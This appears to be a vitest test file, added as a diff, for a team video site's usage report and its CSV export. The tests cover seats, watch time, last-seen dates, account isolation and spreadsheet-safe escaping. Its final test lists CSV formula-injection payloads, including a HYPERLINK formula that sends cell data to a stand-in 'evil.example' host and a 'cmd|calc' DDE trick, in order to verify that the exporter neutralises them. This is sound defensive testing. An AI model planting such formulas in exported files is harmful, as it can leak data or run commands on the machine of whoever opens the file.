@@ -1,0 +1,161 @@
+import Papa from 'papaparse'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { teamCalls } from '#contract/team-calls.ts'
+import { runDailyWork } from '#server/jobs/daily.ts'
+import { addUser, addVideo, teamWith } from '#support/team-site.ts'
+import { createTestApp, type TestApp } from '#support/test-app.ts'
+import { usageCsv } from './usage-csv.ts'
+
+let site: TestApp
+beforeAll(async () => {
+  site = await createTestApp({ settings: { RATE_LIMITS: '1000' } })
+  await addVideo(site, 'short', 60)
+  await addVideo(site, 'long', 3600)
+})
+afterAll(() => site.close())
+
+const watch = (
+  userId: string,
+  videoId: 'short' | 'long',
+  viewing: { seen?: boolean; at?: Date; until?: number },
+) =>
+  site.services.database.db
+    .insertInto('viewing')
+    .values({
+      user_id: userId,
+      video_id: videoId,
+      viewed_at: viewing.at ?? site.clock.now(),
+      seen: viewing.seen ?? false,
+      position_seconds: viewing.until ?? 0,
+    })
+    .execute()
+
+describe('the usage report', () => {
+  test('names the users with a seat and without, in the order of their seats, and no removed one', async () => {
+    const team = await teamWith(site, 3)
+    await addUser(site, team.accountId, 'b@usage.example', { name: 'Bea' })
+    await addUser(site, team.accountId, 'gone@usage.example', { removed: true, confirmed: false })
+    await addUser(site, team.accountId, 'a@usage.example', { name: 'Abe', confirmed: false })
+    await addUser(site, team.accountId, 'c@usage.example', { name: 'Cy' })
+    const { status, body } = await team.owner.call(teamCalls.usageReport)
+    expect(status).toBe(200)
+    expect(body.seats).toEqual({ used: 4, total: 3 })
+    expect(body.users.slice(1)).toEqual(
+      [
+        ['Bea', 'b@usage.example', true, true],
+        ['Abe', 'a@usage.example', false, true],
+        ['Cy', 'c@usage.example', true, false],
+      ].map(([name, email, confirmed, seat]) => ({
+        id: expect.any(String),
+        name,
+        email,
+        confirmed,
+        seat,
+        lastSeenAt: null,
+        videosWatched: 0,
+        watchedSeconds: 0,
+      })),
+    )
+  })
+
+  test('counts seen videos once, and what was watched of the others to where it was left', async () => {
+    const team = await teamWith(site, 5)
+    const id = await addUser(site, team.accountId, 'watcher@usage.example')
+    const half = await addUser(site, team.accountId, 'half@usage.example')
+    await watch(id, 'short', { seen: true, until: 5 })
+    await watch(id, 'long', { until: 90.4, at: new Date('2026-12-24T18:00:00Z') })
+    await watch(half, 'short', { until: 75 })
+    const { users } = (await team.owner.call(teamCalls.usageReport)).body
+    expect(users.slice(1)).toMatchObject([
+      { videosWatched: 1, watchedSeconds: 150, lastSeenAt: '2026-12-24T18:00:00.000Z' },
+      // nobody watched more of a film than there is
+      { videosWatched: 0, watchedSeconds: 60 },
+    ])
+  })
+
+  test('knows who was here without watching anything, and still does when the session is over', async () => {
+    const team = await teamWith(site, 5)
+    const lastSeen = async () => {
+      const { users } = (await team.owner.call(teamCalls.usageReport)).body
+      return users.find(({ id }) => id === team.ownerId)?.lastSeenAt
+    }
+    expect(await lastSeen()).toBe(site.clock.real().toISOString())
+    const { db } = site.services.database
+    const seen = new Date('2026-11-30T10:00:00Z')
+    const id = await addUser(site, team.accountId, 'left@usage.example')
+    await db
+      .insertInto('known_browser')
+      .values({ user_id: id, browser_hash: Buffer.alloc(32), first_seen_at: seen, last_seen_at: seen })
+      .execute()
+    await runDailyWork(site.services)
+    const { users } = (await team.owner.call(teamCalls.usageReport)).body
+    expect(users[1]?.lastSeenAt).toBe(seen.toISOString())
+  })
+
+  test('shows nothing of another account', async () => {
+    const [mine, theirs] = [await teamWith(site, 5), await teamWith(site, 5)]
+    await watch(await addUser(site, theirs.accountId, 'zza7@usage.example', { name: 'zzA7' }), 'long', {
+      until: 9,
+    })
+    for (const call of [teamCalls.usageReport, teamCalls.usageCsv]) {
+      const answer = await mine.owner.call(call)
+      expect(answer.status).toBe(200)
+      expect(answer.text).not.toMatch(/zza7/i)
+    }
+  })
+})
+
+describe('the report as a file', () => {
+  test('is an attachment in UTF-8 that spreadsheet programs read as such', async () => {
+    const team = await teamWith(site, 5)
+    await addUser(site, team.accountId, 'jo@usage.example', { name: 'Jörg "J" Öz, Łódź; 李' })
+    const { status, headers, raw } = await team.owner.call(teamCalls.usageCsv)
+    expect(status).toBe(200)
+    expect(headers['content-type']).toBe('text/csv; charset=utf-8')
+    expect(headers['content-disposition']).toMatch(/^attachment; filename="users-\d{4}-\d\d-\d\d\.csv"$/)
+    expect(raw.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
+    const { data, errors } = Papa.parse(raw.rawPayload.toString('utf8').slice(1), {
+      header: true,
+      skipEmptyLines: true,
+    })
+    expect(errors).toEqual([])
+    expect(data).toHaveLength(2)
+    expect(data[1]).toEqual({
+      Name: 'Jörg "J" Öz, Łódź; 李',
+      Email: 'jo@usage.example',
+      Confirmed: 'yes',
+      Seat: 'yes',
+      'Last seen': '',
+      'Videos watched': '0',
+      'Watched seconds': '0',
+    })
+  })
+
+  test.each([
+    '=HYPERLINK("http://evil.example?"&A1)',
+    '+1',
+    '-1+cmd|calc',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '＝1',
+  ])('runs nothing that somebody called themselves: %j', (name) => {
+    const csv = usageCsv([
+      {
+        id: 'u',
+        name,
+        email: '=a@x.de',
+        confirmed: true,
+        seat: true,
+        lastSeenAt: null,
+        videosWatched: 1,
+        watchedSeconds: 60,
+      },
+    ])
+    const [row] = Papa.parse<Record<string, string>>(csv.slice(1), {
+      header: true,
+      skipEmptyLines: true,
+    }).data
+    expect(row).toMatchObject({ Name: `'${name}`, Email: "'=a@x.de", 'Watched seconds': '60' })
+  })
+})
